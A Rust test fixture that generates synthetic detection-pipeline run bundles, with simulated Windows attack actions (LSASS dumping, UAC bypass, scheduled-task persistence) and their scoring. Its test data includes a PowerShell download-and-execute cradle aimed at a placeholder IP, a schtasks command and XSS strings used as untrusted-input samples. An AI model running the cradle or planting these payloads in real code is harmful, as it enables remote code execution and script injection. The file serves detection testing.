//! Synthetic scored run bundles for tests and benchmarks: a manifest, ground truth, the health
//! documents of telemetry, normalization and detection (shapes copied from a real replay run)
//! and a `scoring/summary.json` consistent with them (metrics, gates and status computed from
//! the actions), each valid against its contract. Scoring is not built yet; these bundles stand
//! in for what it will write.

use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

/// How a synthetic action ends.
#[derive(Debug, Clone, PartialEq)]
pub enum SynthOutcome {
    /// Detected by `rule` (id, title) `latency` seconds after it started.
    Detected {
        rule_id: String,
        rule_title: String,
        attribution: &'static str,
        latency: f64,
    },
    /// Executed, not detected: a gap of `category` with a summary and evidence.
    Gap {
        category: &'static str,
        summary: String,
        evidence: Value,
    },
    /// Not executed (`reason`, e.g. a failed prerequisite).
    NotExecuted { reason: String },
}

/// One synthetic action.
#[derive(Debug, Clone, PartialEq)]
pub struct SynthAction {
    pub action_id: String,
    pub technique_id: String,
    pub test_name: String,
    pub target: String,
    pub outcome: SynthOutcome,
}

/// A synthetic bundle.
#[derive(Debug, Clone)]
pub struct BundleSpec {
    pub run_id: String,
    pub scenario_id: String,
    pub scenario_version: String,
    /// Epoch milliseconds of the run start; action `i` starts 20 s later than action `i − 1`.
    pub start_ms: i64,
    pub rule_set_sha256: String,
    pub actions: Vec<SynthAction>,
    /// Detections attributed to no action: (rule id, title, technique ids, count).
    pub unattributed: Vec<(String, String, Vec<String>, u64)>,
}

fn detected(rule_id: &str, title: &str, attribution: &'static str, latency: f64) -> SynthOutcome {
    SynthOutcome::Detected {
        rule_id: rule_id.into(),
        rule_title: title.into(),
        attribution,
        latency,
    }
}

fn gap(category: &'static str, summary: &str, evidence: Value) -> SynthOutcome {
    SynthOutcome::Gap {
        category,
        summary: summary.into(),
        evidence,
    }
}

fn action(
    id: &str,
    technique: &str,
    test: &str,
    target: &str,
    outcome: SynthOutcome,
) -> SynthAction {
    SynthAction {
        action_id: id.into(),
        technique_id: technique.into(),
        test_name: test.into(),
        target: target.into(),
        outcome,
    }
}

/// The rule the demo's T1082 action is detected by (the diff test removes it).
pub const DISCOVERY_RULE: (&str, &str) = (
    "5ee1c1a2-a37c-4b2e-8d4f-29d3b1c02a11",
    "System Information Discovery Via Systeminfo.EXE",
);

impl BundleSpec {
    /// Ten actions over nine techniques with every outcome: detected (exact, partial,
    /// weak_signal), each gap category, and one action that did not run; rule titles, commands
    /// and messages carry markup and URLs, as untrusted data does.
    pub fn demo(run_id: &str) -> BundleSpec {
        let a = vec![
            action(
                "a01-lsass-comsvcs",
                "T1003.001",
                "Dump LSASS.exe Memory using comsvcs.dll",
                "win10-ws",
                detected(
                    "646ea171-dded-4578-8a4d-65e9822892e3",
                    "Process Memory Dump Via Comsvcs.DLL",
                    "exact",
                    1.2,
                ),
            ),
            action(
                "a02-lsass-rdrleakdiag",
                "T1003.001",
                "Dump LSASS via RdrLeakDiag",
                "win10-ws",
                detected(
                    "6355a919-2e97-4285-a673-74645566340d",
                    "Process Memory Dump via RdrLeakDiag.EXE",
                    "partial",
                    3.4,
                ),
            ),
            action(
                "a03-powershell-cradle",
                "T1059.001",
                "Download cradle: IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
                "win10-ws",
                detected(
                    "3b6ab547-8ec2-4991-b9d2-2b06702a48d7",
                    "PowerShell Download Pattern <IEX> & \"DownloadString\"",
                    "exact",
                    0.8,
                ),
            ),
            action(
                "a04-schtasks",
                "T1053.005",
                "Scheduled Task Startup Script",
                "win-srv-01",
                gap(
                    "rule_logic_gap",
                    "12 events of the action reached detection (Process Activity, Scheduled Job Activity) but none of the 4 executable rules tagged T1053.005 matched them",
                    json!({"events_in_window": 12, "classes_in_window": {"1007": 9, "6003": 3}, "rules_tagged": 6, "rules_executable": 4,
                           "closest_rule": "Scheduled Task Creation Via Schtasks.EXE", "commandline": "schtasks /create /tn \"T1053_005_OnLogon\" /sc onlogon /tr \"cmd.exe /c calc.exe\""}),
                ),
            ),
            action(
                "a05-uac-eventvwr",
                "T1548.002",
                "Bypass UAC using Event Viewer (cmd)",
                "win10-ws",
                gap(
                    "bridge_gap_mapping",
                    "The rules for T1548.002 route to Registry Value Activity, but their field TargetObject has no OCSF alias for that class",
                    json!({"rule_ids": ["7c81fec3-1c1d-43b0-996a-46753041b1b6"], "unmapped_fields": ["TargetObject", "Details"], "class_uid": 201002, "reason_code": "unmapped_field"}),
                ),
            ),
            action(
                "a06-clear-eventlog",
                "T1070.001",
                "Clear Logs <img src=x onerror=alert(1)>",
                "dc-01",
                gap(
                    "missing_telemetry",
                    "No event of source system-log falls in the action's window: the Security and System channels were not collected on dc-01",
                    json!({"expected_sources": ["system-log"], "events_in_window": 0, "raw_records_in_window": 0}),
                ),
            ),
            action(
                "a07-local-account",
                "T1136.001",
                "Create a new user in a command prompt",
                "win10-ws",
                gap(
                    "unmapped_event_type",
                    "3 events of the action are of type windows-security:4720, which no mapping profile maps: they are Base Events that no rule routes to",
                    json!({"event_types": {"windows-security:4720": 3, "windows-security:4722": 1}, "profile": "windows-security"}),
                ),
            ),
            action(
                "a08-rundll32",
                "T1218.011",
                "Rundll32 execute JavaScript Remote Payload With GetObject",
                "win10-ws",
                gap(
                    "bridge_gap_feature",
                    "The only rule for this behaviour uses a regular expression with a look-around, which the engine does not run (unsupported_regex)",
                    json!({"rule_ids": ["e3a1c5d8-0a7f-4b0e-9f6c-2f5b8b9d7c11"], "reason_code": "unsupported_regex", "pattern": "(?<!\\\\)javascript:"}),
                ),
            ),
            action(
                "a09-systeminfo",
                "T1082",
                "System Information Discovery",
                "win-srv-01",
                detected(DISCOVERY_RULE.0, DISCOVERY_RULE.1, "weak_signal", 45.0),
            ),
            action(
                "a10-certutil-download",
                "T1105",
                "certutil download (urlcache)",
                "win-srv-01",
                SynthOutcome::NotExecuted {
                    reason: "prepare_failed".into(),
                },
            ),
        ];
        BundleSpec {
            run_id: run_id.into(),
            scenario_id: "windows-credential-access".into(),
            scenario_version: "1.2.0".into(),
            start_ms: 1_796_032_800_000, // 2026-11-30T10:00:00Z
            rule_set_sha256: format!("sha256:{}", "ab".repeat(32)),
            actions: a,
            unattributed: vec![(
                "0f06a3a5-6a09-413f-8743-e6cf35561297".into(),
                "<script>alert(\"x\")</script> Suspicious \"quoted\" & <b>bold</b> title".into(),
                vec!["T1059.001".into()],
                2,
            )],
        }
    }

    /// `n` actions cycling over the demo's, with distinct ids (the reporting benchmark).
    pub fn scaled(run_id: &str, n: usize) -> BundleSpec {
        let demo = BundleSpec::demo(run_id);
        let mut spec = demo.clone();
        spec.actions = (0..n)
            .map(|i| {
                let mut a = demo.actions[i % demo.actions.len()].clone();
                a.action_id = format!("a{i:06}");
                // Spread the actions over many techniques, as a large scenario would.
                let base: u32 = a.technique_id[1..5].parse().unwrap_or(1000);
                a.technique_id = format!("T{:04}.{:03}", base, (i / demo.actions.len()) % 200 + 1);
                if let SynthOutcome::Detected { latency, .. } = &mut a.outcome {
                    *latency += (i % 97) as f64 * 0.5;
                }
                a
            })
            .collect();
        spec
    }

    /// Write the bundle as `<workspace>/runs/<run_id>/`; returns its path.
    pub fn write(&self, workspace: &Path) -> std::io::Result<PathBuf> {
        let dir = workspace.join("runs").join(&self.run_id);
        std::fs::create_dir_all(workspace.join("runs/.locks"))?;
        for (rel, v) in self.documents() {
            let p = dir.join(&rel);
            if let Some(parent) = p.parent() {
                std::fs::create_dir_all(parent)?;
            }
            let bytes = match v {
                Doc::Json(v) => pa_canon::jcs_value(&v).map_err(std::io::Error::other)?,
                Doc::Lines(rows) => {
                    let mut out = Vec::new();
                    for r in rows {
                        out.extend(pa_canon::jcs_value(&r).map_err(std::io::Error::other)?);
                        out.push(b'\n');
                    }
                    out
                }
            };
            std::fs::write(&p, bytes)?;
        }
        Ok(dir)
    }

    /// Every document of the bundle (bundle-relative path, content).
    pub fn documents(&self) -> Vec<(String, Doc)> {
        vec![
            ("manifest.json".into(), Doc::Json(self.manifest())),
            ("ground_truth.jsonl".into(), Doc::Lines(self.ground_truth())),
            ("scoring/summary.json".into(), Doc::Json(self.summary())),
            (
                "normalized/mapping_coverage.json".into(),
                Doc::Json(self.mapping_coverage()),
            ),
            (
                "bridge/coverage.json".into(),
                Doc::Json(self.bridge_coverage()),
            ),
            (
                "logs/telemetry_validation.json".into(),
                Doc::Json(self.telemetry_validation()),
            ),
            ("run_results.json".into(), Doc::Json(self.derived(true))),
            ("logs/health.json".into(), Doc::Json(self.derived(false))),
        ]
    }

    fn ts(&self, ms: i64) -> String {
        pa_canon::format_utc_millis(ms)
    }

    fn action_start(&self, i: usize) -> i64 {
        self.start_ms + 5_000 + 20_000 * i as i64
    }

    fn targets(&self) -> BTreeSet<&str> {
        self.actions.iter().map(|a| a.target.as_str()).collect()
    }

    fn key(&self, a: &SynthAction) -> String {
        pa_canon::sha256_hex(format!("{}:{}", self.scenario_id, a.action_id).as_bytes())
    }

    fn manifest(&self) -> Value {
        let end = self.action_start(self.actions.len()) + 10_000;
        let stages = [
            "lab_provider",
            "runner",
            "telemetry",
            "normalization",
            "detection",
            "scoring",
        ];
        json!({
            "contract_version": "0.1.0",
            "run_id": self.run_id,
            "status": "success",
            "started_at_utc": self.ts(self.start_ms),
            "ended_at_utc": self.ts(end),
            "scenario": {"scenario_id": self.scenario_id, "scenario_version": self.scenario_version, "runner_type": "atomic",
                         "techniques": self.actions.iter().map(|a| a.technique_id.clone()).collect::<BTreeSet<_>>()},
            "versions": {"project_version": "0.1.0", "pipeline_version": "purple-axiom-rs/0.1.0", "scenario_id": self.scenario_id,
                         "scenario_version": self.scenario_version, "ocsf_version": "1.7.0", "contracts_version": "0.1.0",
                         "rule_set_sha256": self.rule_set_sha256, "mapping_pack_id": "purple-axiom-sigma-ocsf",
                         "mapping_pack_version": "0.1.0", "mapping_pack_sha256": format!("sha256:{}", "7f".repeat(32)),
                         "mapping_profile_sha256": "64".repeat(32), "evaluator_version": "pa-detect/0.1.0", "normalizer_version": "pa-normalize/0.1.0"},
            "inputs": {"range_yaml_sha256": format!("sha256:{}", "58".repeat(32)), "scenario_yaml_sha256": format!("sha256:{}", "91".repeat(32))},
            "targets": self.targets().into_iter().map(|t| json!({"asset_id": t, "os": "windows", "role": "workstation"})).collect::<Vec<_>>(),
            "enabled_stages": stages.iter().copied().chain(["reporting"]).collect::<Vec<_>>(),
            "stage_outcomes": stages.iter().map(|s| json!({"stage": s, "status": "success", "fail_mode": "fail_closed"})).collect::<Vec<_>>(),
            "lab": {"provider": "replay"},
        })
    }

    /// `run_results.json` (or `logs/health.json`) as the orchestrator derives it.
    fn derived(&self, results: bool) -> Value {
        let m: pa_bundle::Manifest = match serde_json::from_value(self.manifest()) {
            Ok(m) => m,
            Err(_) => return Value::Null,
        };
        let v = if results {
            pa_canon::to_value(&pa_bundle::results::run_results(
                &m,
                None,
                Default::default(),
            ))
        } else {
            pa_canon::to_value(&pa_bundle::results::health(&m))
        };
        v.unwrap_or(Value::Null)
    }

    fn ground_truth(&self) -> Vec<Value> {
        let mut rows: Vec<Value> = self
            .actions
            .iter()
            .enumerate()
            .map(|(i, a)| {
                let t0 = self.action_start(i);
                let ev = |kind: &str| format!("runner/actions/{}/{kind}", a.action_id);
                let phase = |name: &str, from: i64, to: i64, outcome: &str| {
                    let mut p = json!({"phase": name, "attempt_ordinal": 1, "phase_outcome": outcome,
                                        "started_at_utc": self.ts(from), "ended_at_utc": self.ts(to)});
                    if outcome == "failed" {
                        p["reason_code"] = json!(format!("{name}_failed"));
                        p["exit_code"] = json!(1);
                    }
                    if name == "execute" && outcome != "skipped" {
                        p["exit_code"] = json!(0);
                        p["evidence"] = json!({"executor_ref": ev("executor.json"), "stdout_ref": ev("stdout.txt"), "stderr_ref": ev("stderr.txt")});
                    }
                    p
                };
                let phases = if matches!(a.outcome, SynthOutcome::NotExecuted { .. }) {
                    vec![phase("prepare", t0, t0 + 900, "failed"), phase("execute", t0 + 900, t0 + 900, "skipped")]
                } else {
                    vec![
                        phase("prepare", t0, t0 + 400, "success"),
                        phase("execute", t0 + 400, t0 + 2_650, "success"),
                        phase("revert", t0 + 2_650, t0 + 3_100, "success"),
                        phase("teardown", t0 + 3_100, t0 + 3_300, "success"),
                    ]
                };
                json!({
                    "run_id": self.run_id, "scenario_id": self.scenario_id, "scenario_version": self.scenario_version,
                    "action_id": a.action_id, "action_key": self.key(a), "timestamp_utc": self.ts(t0), "engine": "atomic",
                    "engine_test_id": format!("{:08x}-0000-4000-8000-{:012x}", i, i), "technique_id": a.technique_id,
                    "target_asset_id": a.target, "resolved_target": {"os": "windows", "role": "workstation", "tags": []},
                    "parameters": {"input_args_redacted": {}, "resolved_inputs_sha256": pa_canon::sha256_hex(a.action_id.as_bytes())},
                    "lifecycle": {"phases": phases},
                    "extensions": {"synthetic_correlation_marker": format!("pa:synth:v1:{}:{}:execute", self.run_id, a.action_id),
                                   "synthetic_correlation_marker_digest": &pa_canon::sha256_hex(a.action_id.as_bytes())[..22],
                                   "atomic": {"test_number": 1, "test_name": a.test_name, "executor": "command_prompt", "elevation_required": false}},
                })
            })
            .collect();
        rows.sort_by(|a, b| a["action_id"].as_str().cmp(&b["action_id"].as_str()));
        rows
    }

    fn action_rows(&self) -> Vec<Value> {
        self.actions
            .iter()
            .enumerate()
            .map(|(i, a)| {
                let t0 = self.action_start(i);
                let mut row = json!({
                    "action_id": a.action_id, "action_key": self.key(a), "technique_id": a.technique_id, "engine": "atomic",
                    "engine_test_id": format!("{:08x}-0000-4000-8000-{:012x}", i, i), "target_asset_id": a.target,
                    "started_at_utc": self.ts(t0), "ended_at_utc": self.ts(t0 + 3_300),
                    "executed": true, "execute_outcome": "success",
                    "telemetry": {"criteria_status": null, "events_in_window": 14, "classes_in_window": {"1007": 9, "1001": 5},
                                  "window": {"start_time_utc": self.ts(t0), "end_time_utc": self.ts(t0 + 60_000)}},
                    "detected": false, "attribution": null, "first_detection_utc": null, "latency_seconds": null,
                    "rules_matched": [], "gap": null,
                });
                match &a.outcome {
                    SynthOutcome::Detected { rule_id, rule_title, attribution, latency } => {
                        let first = self.ts(t0 + (latency * 1000.0).round() as i64);
                        row["detected"] = json!(true);
                        row["attribution"] = json!(attribution);
                        row["first_detection_utc"] = json!(first);
                        row["latency_seconds"] = json!(latency);
                        row["rules_matched"] = json!([{"rule_id": rule_id, "rule_title": rule_title, "attribution": attribution,
                                                       "first_seen_utc": first, "detections": 1}]);
                    }
                    SynthOutcome::Gap { category, summary, evidence } => {
                        if *category == "missing_telemetry" {
                            row["telemetry"]["events_in_window"] = json!(0);
                            row["telemetry"]["classes_in_window"] = json!({});
                        }
                        row["gap"] = json!({"category": category, "layer": crate::model::gap_layer(category), "summary": summary,
                            "evidence": evidence,
                            "evidence_refs": [{"artifact_path": "ground_truth.jsonl", "selector": format!("jsonl_line:{}", self.gt_line(&a.action_id))},
                                              {"artifact_path": if category.starts_with("bridge") { "bridge/coverage.json" } else { "normalized/mapping_coverage.json" },
                                               "selector": "json_pointer:/"}]});
                    }
                    SynthOutcome::NotExecuted { reason } => {
                        row["executed"] = json!(false);
                        row["execute_outcome"] = json!("skipped");
                        row["not_executed_reason"] = json!(reason);
                        row["telemetry"]["events_in_window"] = json!(0);
                        row["telemetry"]["classes_in_window"] = json!({});
                    }
                }
                row
            })
            .collect()
    }

    fn gt_line(&self, action_id: &str) -> usize {
        let mut ids: Vec<&str> = self.actions.iter().map(|a| a.action_id.as_str()).collect();
        ids.sort();
        ids.iter()
            .position(|i| *i == action_id)
            .map_or(0, |p| p + 1)
    }

    /// `scoring/summary.json` of the bundle.
    pub fn summary(&self) -> Value {
        let rows = self.action_rows();
        let executed: Vec<&SynthAction> = self
            .actions
            .iter()
            .filter(|a| !matches!(a.outcome, SynthOutcome::NotExecuted { .. }))
            .collect();
        let detected = executed
            .iter()
            .filter(|a| matches!(a.outcome, SynthOutcome::Detected { .. }))
            .count();
        let mut techs: BTreeMap<&str, TechTally<'_>> = BTreeMap::new();
        for a in &self.actions {
            let e = techs.entry(&a.technique_id).or_default();
            e.0 += 1;
            match &a.outcome {
                SynthOutcome::Detected { latency, .. } => {
                    e.1 += 1;
                    e.2 += 1;
                    e.3 = Some(e.3.map_or(*latency, |l: f64| l.min(*latency)));
                }
                SynthOutcome::Gap { category, .. } => {
                    e.1 += 1;
                    e.4.insert(category);
                }
                SynthOutcome::NotExecuted { .. } => {}
            }
        }
        let t_exec = techs.values().filter(|t| t.1 > 0).count();
        let t_det = techs.values().filter(|t| t.2 > 0).count();
        let rate = |n: usize, d: usize| {
            if d == 0 {
                None
            } else {
                Some(((n as f64 / d as f64) * 10_000.0).round() / 10_000.0)
            }
        };
        let mut lat: Vec<f64> = self
            .actions
            .iter()
            .filter_map(|a| match a.outcome {
                SynthOutcome::Detected { latency, .. } => Some(latency),
                _ => None,
            })
            .collect();
        lat.sort_by(f64::total_cmp);
        let pctl = |p: f64| {
            if lat.is_empty() {
                None
            } else {
                Some(lat[((p * lat.len() as f64).ceil() as usize).clamp(1, lat.len()) - 1])
            }
        };
        let mut gap_counts = BTreeMap::new();
        for c in crate::model::GAP_CATEGORIES {
            gap_counts.insert(*c, executed.iter().filter(|a| matches!(&a.outcome, SynthOutcome::Gap { category, .. } if category == c)).count());
        }
        let gap_rates: BTreeMap<&str, Option<f64>> = gap_counts
            .iter()
            .map(|(k, v)| (*k, rate(*v, executed.len())))
            .collect();
        let fp: u64 = self.unattributed.iter().map(|u| u.3).sum();
        let det_total = detected as u64 + fp;
        let coverage = rate(t_det, t_exec);
        let fp_rate = if det_total == 0 {
            None
        } else {
            rate(fp as usize, det_total as usize)
        };
        let gate = |id: &str, threshold: f64, actual: Option<f64>, min: bool| {
            let pass = actual.map(|a| if min { a >= threshold } else { a <= threshold });
            let mut g =
                json!({"gate_id": id, "threshold": threshold, "actual": actual, "pass": pass});
            if pass.is_none() {
                g["indeterminate_reason"] = json!("not_applicable");
            }
            g
        };
        let gates = vec![
            gate("max_allowed_latency_seconds", 300.0, pctl(0.95), false),
            gate(
                "max_bridge_gap_feature_rate",
                0.40,
                gap_rates["bridge_gap_feature"],
                false,
            ),
            gate(
                "max_bridge_gap_mapping_rate",
                0.10,
                gap_rates["bridge_gap_mapping"],
                false,
            ),
            gate(
                "max_bridge_gap_other_rate",
                0.02,
                gap_rates["bridge_gap_other"],
                false,
            ),
            gate("max_false_positive_detection_rate", 0.05, fp_rate, false),
            gate(
                "max_missing_telemetry_rate",
                0.10,
                gap_rates["missing_telemetry"],
                false,
            ),
            gate(
                "max_unmapped_event_type_rate",
                0.05,
                gap_rates["unmapped_event_type"],
                false,
            ),
            gate("min_technique_coverage", 0.75, coverage, true),
            gate("min_tier1_field_coverage", 0.80, Some(0.9), true),
        ];
        let ok = gates.iter().all(|g| g["pass"] != json!(false));
        json!({
            "contract_version": "0.1.0", "run_id": self.run_id, "scenario_id": self.scenario_id,
            "scenario_version": self.scenario_version, "generated_at_utc": self.ts(self.start_ms + 3_600_000),
            "thresholds": {"min_technique_coverage": 0.75, "max_allowed_latency_seconds": 300, "min_tier1_field_coverage": 0.8,
                           "max_missing_telemetry_rate": 0.1, "max_unmapped_event_type_rate": 0.05, "max_bridge_gap_mapping_rate": 0.1,
                           "max_bridge_gap_feature_rate": 0.4, "max_bridge_gap_other_rate": 0.02,
                           "max_false_positive_detection_rate": 0.05, "max_false_positive_detection_count": 10, "clock_skew_tolerance_seconds": 5},
            "metrics": {"actions_total": self.actions.len(), "actions_executed": executed.len(), "actions_detected": detected,
                        "techniques_executed": t_exec, "techniques_detected": t_det, "technique_coverage_rate": coverage,
                        "detection_latency_p50_seconds": pctl(0.5), "detection_latency_p90_seconds": pctl(0.9),
                        "detection_latency_p95_seconds": pctl(0.95), "detection_latency_max_seconds": lat.last(),
                        "detections_total": det_total, "detections_attributed": detected, "false_positive_detection_count": fp,
                        "false_positive_detection_rate": fp_rate, "tier1_field_coverage_rate": 0.9,
                        "events_total": 14 * executed.len() as u64, "gap_counts": gap_counts, "gap_rates": gap_rates},
            "gates": gates,
            "status_recommendation": if ok { "success" } else { "partial" },
            "actions": rows,
            "techniques": techs.iter().map(|(t, (n, e, d, l, g))| json!({"technique_id": t, "actions": n, "executed": e, "detected": d,
                "fastest_latency_seconds": l, "gap_categories": g, "rules_tagged": 6, "rules_executable": 4})).collect::<Vec<_>>(),
            "unattributed_detections": self.unattributed.iter().map(|(id, title, techs, n)| json!({"rule_id": id, "rule_title": title,
                "first_seen_utc": self.ts(self.start_ms + 7_000), "technique_ids": techs, "detections": n})).collect::<Vec<_>>(),
            "rules": {"total": 2407, "executable": 2309, "non_executable": 98, "non_executable_reason_counts": {"unroutable_logsource": 71, "unsupported_regex": 19, "unmapped_field": 8}, "matched": 4},
            "inputs": {"ground_truth.jsonl": format!("sha256:{}", "11".repeat(32)), "detections/detections.jsonl": format!("sha256:{}", "22".repeat(32)), "criteria/results.jsonl": null},
        })
    }

    fn mapping_coverage(&self) -> Value {
        let n = 14 * self.actions.len() as u64;
        json!({"mapping_profile_sha256": "64".repeat(32), "events_total": n, "events_mapped": n - 7, "events_unmapped": 4,
               "events_fallback": 3, "events_failed": 0,
               "mapped_pct": ((n - 7) as f64 / n as f64 * 10_000.0).round() / 10_000.0,
               "classes": [{"class_uid": 0, "events_total": 3, "events_mapped": 3, "mapped_pct": 1},
                           {"class_uid": 1007, "events_total": n / 2, "events_mapped": n / 2, "mapped_pct": 1}],
               "unknown_event_types": [{"event_type": "windows-security:4720", "count": 3}, {"event_type": "windows-security:4722", "count": 1}],
               "fallback_event_types": [{"source_type": "windows-security", "event_type": "windows-security:4662", "count": 2},
                                        {"source_type": "windows-other", "event_type": "windows-other:Application:18456", "count": 1}],
               "source_types": [], "store": {"rows": n, "duplicates_dropped": 0, "conflicts": 0}})
    }

    fn bridge_coverage(&self) -> Value {
        json!({"total_rules": 2407, "routed_rules": 2309, "executable_rules": 2309, "non_executable_rules": 98, "matched_rules": 4,
               "fallback_used_rules": 307, "non_executable_reason_counts": {"unroutable_logsource": 71, "unsupported_regex": 19, "unmapped_field": 8},
               "top_unmapped_fields": [{"field": "TargetObject", "rules": 5}, {"field": "Hashes", "rules": 3}], "load_issues": [],
               "events_evaluated": 14 * self.actions.len() as u64, "detections_total": 6})
    }

    fn telemetry_validation(&self) -> Value {
        let sources: Vec<Value> = self.targets().into_iter().map(|t| {
            let n = 14 * self.actions.iter().filter(|a| a.target == t).count() as u64;
            json!({"source_id": format!("sysmon-{t}"), "format": "evtx", "asset_id": t, "dataset": format!("raw_parquet/sysmon-{t}"),
                   "required": true, "status": "ok", "files": [], "records_read": n + 1, "records_kept": n, "records_dropped": 1,
                   "drop_reasons": {"outside_capture_window": 1}, "source_types": {"windows-sysmon": n}, "counters": {}, "errors": []})
        }).collect();
        let sum = |k: &str| {
            sources
                .iter()
                .map(|s| s[k].as_u64().unwrap_or(0))
                .sum::<u64>()
        };
        json!({"contract_version": "0.1.0", "run_id": self.run_id, "sources": sources,
               "totals": {"records_read": sum("records_read"), "records_kept": sum("records_kept"), "records_dropped": sum("records_dropped")}})
    }
}

/// Per technique: actions, executed, detected, fastest latency, gap categories.
type TechTally<'a> = (u64, u64, u64, Option<f64>, BTreeSet<&'a str>);

/// A document of a synthetic bundle.
#[derive(Debug, Clone)]
pub enum Doc {
    /// One JSON document.
    Json(Value),
    /// JSON lines.
    Lines(Vec<Value>),
}
